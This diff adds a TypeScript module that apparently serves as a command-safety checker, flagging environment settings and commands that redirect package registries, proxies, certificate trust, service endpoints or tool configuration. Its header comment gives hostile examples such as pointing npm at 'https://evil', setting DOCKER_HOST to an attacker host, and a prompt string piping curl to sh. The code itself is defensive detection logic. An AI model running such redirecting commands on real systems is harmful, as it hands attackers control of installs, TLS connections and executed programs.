@@ -1,0 +1,206 @@
+/**
+ * Settings that redirect where tools fetch code, whom they trust, or which program or server they use
+ * (docs/adr/0323): `npm_config_registry=https://evil npm install`, `https_proxy=… REQUESTS_CA_BUNDLE=/tmp/ca.pem pip
+ * install`, `export DOCKER_HOST=tcp://evil:2375`, `PS1='$(curl …|sh)' bash -i`, `hash -p /tmp/evil git`,
+ * `cargo --config 'target.x86_64-unknown-linux-gnu.runner="/tmp/evil"' test`, `go env -w GOPROXY=…`. Their effect
+ * shows only later, in another program: the call is SECURITY whatever it runs, as a prefix (`X=… cmd`), an
+ * `export`/`declare -x`/`env`, or a plain assignment. Variables that run code themselves (`LD_PRELOAD`, `PAGER`,
+ * `PROMPT_COMMAND`) are shell/code-env.ts's; turning certificate checks off is the tls-weakening hard deny.
+ */
+import type { SimpleCommand } from "../shell/index.ts";
+
+/** Why a name matters. */
+type Kind = "registry" | "proxy" | "trust" | "endpoint" | "config";
+
+/** Exact names (upper case; proxies are read in either case by the tools). */
+const NAMES: Readonly<Record<string, Kind>> = {
+  // Package registries and mirrors: where every later install comes from.
+  NPM_CONFIG_REGISTRY: "registry",
+  YARN_REGISTRY: "registry",
+  YARN_NPM_REGISTRY_SERVER: "registry",
+  YARN_UNSAFE_HTTP_WHITELIST: "registry",
+  BUN_CONFIG_REGISTRY: "registry",
+  PIP_INDEX_URL: "registry",
+  PIP_EXTRA_INDEX_URL: "registry",
+  PIP_FIND_LINKS: "registry",
+  UV_INDEX_URL: "registry",
+  UV_EXTRA_INDEX_URL: "registry",
+  UV_DEFAULT_INDEX: "registry",
+  UV_INDEX: "registry",
+  UV_FIND_LINKS: "registry",
+  UV_INSECURE_HOST: "registry",
+  PDM_PYPI_URL: "registry",
+  PIPENV_PYPI_MIRROR: "registry",
+  GOPROXY: "registry",
+  GOSUMDB: "registry",
+  GONOSUMDB: "registry",
+  GONOSUMCHECK: "registry",
+  GOINSECURE: "registry",
+  RUBYGEMS_HOST: "registry",
+  PUB_HOSTED_URL: "registry",
+  HOMEBREW_BOTTLE_DOMAIN: "registry",
+  HOMEBREW_ARTIFACT_DOMAIN: "registry",
+  HOMEBREW_API_DOMAIN: "registry",
+  NVM_NODEJS_ORG_MIRROR: "registry",
+  NODEJS_ORG_MIRROR: "registry",
+  ELECTRON_MIRROR: "registry",
+  PUPPETEER_DOWNLOAD_BASE_URL: "registry",
+  PLAYWRIGHT_DOWNLOAD_HOST: "registry",
+  HF_ENDPOINT: "registry",
+  CONDA_CHANNELS: "registry",
+  // Proxies: every request goes through them.
+  HTTP_PROXY: "proxy",
+  HTTPS_PROXY: "proxy",
+  ALL_PROXY: "proxy",
+  FTP_PROXY: "proxy",
+  SOCKS_PROXY: "proxy",
+  SOCKS5_PROXY: "proxy",
+  RSYNC_PROXY: "proxy",
+  NPM_CONFIG_PROXY: "proxy",
+  NPM_CONFIG_HTTPS_PROXY: "proxy",
+  PIP_PROXY: "proxy",
+  CARGO_HTTP_PROXY: "proxy",
+  // Certificate authorities: a CA the attacker holds makes every TLS connection theirs.
+  REQUESTS_CA_BUNDLE: "trust",
+  SSL_CERT_FILE: "trust",
+  SSL_CERT_DIR: "trust",
+  CURL_CA_BUNDLE: "trust",
+  NODE_EXTRA_CA_CERTS: "trust",
+  GIT_SSL_CAINFO: "trust",
+  GIT_SSL_CAPATH: "trust",
+  AWS_CA_BUNDLE: "trust",
+  PIP_CERT: "trust",
+  NPM_CONFIG_CAFILE: "trust",
+  NPM_CONFIG_CA: "trust",
+  CARGO_HTTP_CAINFO: "trust",
+  DENO_CERT: "trust",
+  BUNDLE_SSL_CA_CERT: "trust",
+  HTTPLIB2_CA_CERTS: "trust",
+  GRPC_DEFAULT_SSL_ROOTS_FILE_PATH: "trust",
+  WEBSOCKET_CLIENT_CA_BUNDLE: "trust",
+  // Servers and daemons a client talks to, with the user's credentials or the project's files.
+  DOCKER_HOST: "endpoint",
+  CONTAINER_HOST: "endpoint",
+  AWS_ENDPOINT_URL: "endpoint",
+  ANTHROPIC_BASE_URL: "endpoint",
+  OPENAI_BASE_URL: "endpoint",
+  OPENAI_API_BASE: "endpoint",
+  VAULT_ADDR: "endpoint",
+  NOMAD_ADDR: "endpoint",
+  CONSUL_HTTP_ADDR: "endpoint",
+  GH_HOST: "endpoint",
+  GITHUB_API_URL: "endpoint",
+  // Configuration files that may name programs to run (kubeconfig `exec`, `credential_process`, credHelpers,
+  // terraform's provider mirrors, git's config) or a whole tree of them.
+  KUBECONFIG: "config",
+  DOCKER_CONFIG: "config",
+  AWS_CONFIG_FILE: "config",
+  AWS_SHARED_CREDENTIALS_FILE: "config",
+  CLOUDSDK_CONFIG: "config",
+  AZURE_CONFIG_DIR: "config",
+  TF_CLI_CONFIG_FILE: "config",
+  TERRAFORM_CONFIG: "config",
+  PIP_CONFIG_FILE: "config",
+  NPM_CONFIG_USERCONFIG: "config",
+  NPM_CONFIG_GLOBALCONFIG: "config",
+  YARN_RC_FILENAME: "config",
+  GNUPGHOME: "config",
+  GIT_CONFIG_GLOBAL: "config",
+  GIT_CONFIG_SYSTEM: "config",
+  XDG_CONFIG_HOME: "config",
+  RUSTC_WRAPPER: "config",
+  RUSTC_WORKSPACE_WRAPPER: "config",
+  RUSTC: "config",
+  RUSTDOC: "config",
+};
+
+/** Families by prefix and suffix (upper case). */
+const FAMILIES: readonly { readonly re: RegExp; readonly kind: Kind }[] = [
+  { re: /^NPM_CONFIG_(?:@[^:]+:)?REGISTRY$/, kind: "registry" },
+  { re: /^NPM_CONFIG_(?:\/\/.*:)?_?(?:AUTHTOKEN|CAFILE|CERTFILE|KEYFILE)$/, kind: "trust" },
+  { re: /^YARN_(?:NPM_SCOPES_.*_NPM_REGISTRY_SERVER|HTTPS?_PROXY|CA_FILE_PATH|HTTPS_CA_FILE_PATH)$/, kind: "registry" },
+  { re: /^POETRY_(?:REPOSITORIES|CERTIFICATES|SOURCE)_/, kind: "registry" },
+  { re: /^CARGO_REGISTRIES_.*_INDEX$|^CARGO_REGISTRY_|^CARGO_SOURCE_/, kind: "registry" },
+  {
+    re: /^CARGO_TARGET_.*_(?:RUNNER|LINKER)$|^CARGO_BUILD_(?:RUSTC|RUSTC_WRAPPER|RUSTC_WORKSPACE_WRAPPER|RUSTDOC)$/,
+    kind: "config",
+  },
+  { re: /^BUNDLE_MIRROR__/, kind: "registry" },
+  { re: /^AWS_ENDPOINT_URL_/, kind: "endpoint" },
+];
+
+/** Prompt strings: a command substitution in them runs at every prompt (`PS4` at every traced line). */
+const PROMPTS = new Set(["PS0", "PS1", "PS2", "PS3", "PS4", "PROMPT", "RPROMPT", "RPS1", "PROMPT2", "PROMPT4"]);
+
+function kindOf(name: string): Kind | null {
+  const upper = name.toUpperCase();
+  return NAMES[upper] ?? FAMILIES.find((f) => f.re.test(upper))?.kind ?? null;
+}
+
+/** What the setting keeps as it was: empty, or the variable's own value (`PATH=$PATH`), or a local docker socket. */
+function harmless(name: string, value: string): boolean {
+  const v = value.trim();
+  if (v === "" || v === `$${name}` || v === `\${${name}}`) return true;
+  const upper = name.toUpperCase();
+  if (upper === "GOPROXY") return /^(?:direct|off|https:\/\/proxy\.golang\.org(?:,direct)?)$/.test(v);
+  return upper === "DOCKER_HOST" && /^unix:\/\/\/(?:var\/)?run\/docker\.sock$/.test(v);
+}
+
+/** One reason, or null. */
+export function redirectingSetting(name: string, value: string): string | null {
+  if (PROMPTS.has(name)) return /\$\(|`/.test(value) ? `${name} runs a command at every prompt` : null;
+  const kind = kindOf(name);
+  if (kind === null || harmless(name, value)) return null;
+  const what: Record<Kind, string> = {
+    registry: "where packages are fetched from",
+    proxy: "the proxy every request goes through",
+    trust: "which certificates are trusted",
+    endpoint: "the server the client talks to",
+    config: "the configuration (and the programs it names) a tool loads",
+  };
+  return `${name} changes ${what[kind]}`;
+}
+
+/** cargo `--config KEY=VALUE` keys that run a program or change where crates come from. */
+const CARGO_KEYS =
+  /(?:^|\.)(?:runner|linker|ar|rustc|rustc-wrapper|rustc-workspace-wrapper|rustdoc|credential-provider|global-credential-providers|replace-with|index|registry|proxy|cainfo|check-revoke)\s*$/;
+
+/** Why the command redirects a later program, or null. */
+export function redirectingEnv(cmd: SimpleCommand): string | null {
+  for (const a of cmd.assignments) {
+    const why = redirectingSetting(a.name, a.value);
+    if (why !== null) return why;
+  }
+  const p = cmd.program;
+  const args = cmd.args;
+  // `hash -p FILE NAME`: the name runs FILE from now on; `enable -f LIB NAME` loads a builtin from a library.
+  if (p === "hash" && args.some((a) => /^-[a-zA-Z]*p/.test(a))) return "hash -p makes a command name run another file";
+  if (p === "enable" && args.some((a) => /^-[a-zA-Z]*f/.test(a))) return "enable -f loads a builtin from a library";
+  if (p === "cargo") {
+    for (const v of optionValues(args, "--config")) {
+      const eq = v.indexOf("=");
+      if (eq < 0) return `cargo --config ${v} loads a configuration file`;
+      if (CARGO_KEYS.test(v.slice(0, eq))) return `cargo --config ${v.slice(0, eq).trim()} names a program or a source`;
+    }
+  }
+  // `go env -w K=V` writes the setting into go's own env file: every later go command reads it.
+  if (p === "go" && args[0] === "env" && args.some((a) => a === "-w")) {
+    for (const w of args.slice(1)) {
+      const eq = w.indexOf("=");
+      const why = eq > 0 ? redirectingSetting(w.slice(0, eq), w.slice(eq + 1)) : null;
+      if (why !== null) return `go env -w: ${why}`;
+    }
+  }
+  return null;
+}
+
+function optionValues(args: readonly string[], name: string): string[] {
+  const out: string[] = [];
+  for (let i = 0; i < args.length; i++) {
+    const a = args[i]!;
+    if (a === "--") break;
+    if (a === name && i + 1 < args.length) out.push(args[++i]!);
+    else if (a.startsWith(`${name}=`)) out.push(a.slice(name.length + 1));
+  }
+  return out;
+}
